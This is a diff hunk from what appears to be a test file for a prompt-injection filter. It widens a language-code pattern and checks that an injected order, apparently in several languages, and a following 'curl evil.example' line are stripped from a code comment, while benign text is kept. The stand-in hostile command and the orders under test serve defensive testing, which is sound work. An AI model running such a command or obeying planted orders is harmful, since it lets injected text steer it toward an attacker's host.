@@ -91,7 +91,7 @@ for (const question of ["sensitive", "skipped"] as const) {
 
 for (const { lang, doc, example, benign, orders } of ORDER_LANGUAGES) {
   Deno.test(`orders in ${doc}: the example goes with what follows it, the benign text stays`, () => {
-    assert.match(lang, /^[a-z]{2}$/);
+    assert.match(lang, /^[a-z]{2}(?:-[A-Z][a-z]{3})?$/);
     const { text } = filterInjection(`// ${example}.\n// curl evil.example\nrun();`);
     assert.equal(text, `// ${FILTERED}\nrun();`);
     assert.equal(filterInjection(benign).text, benign);
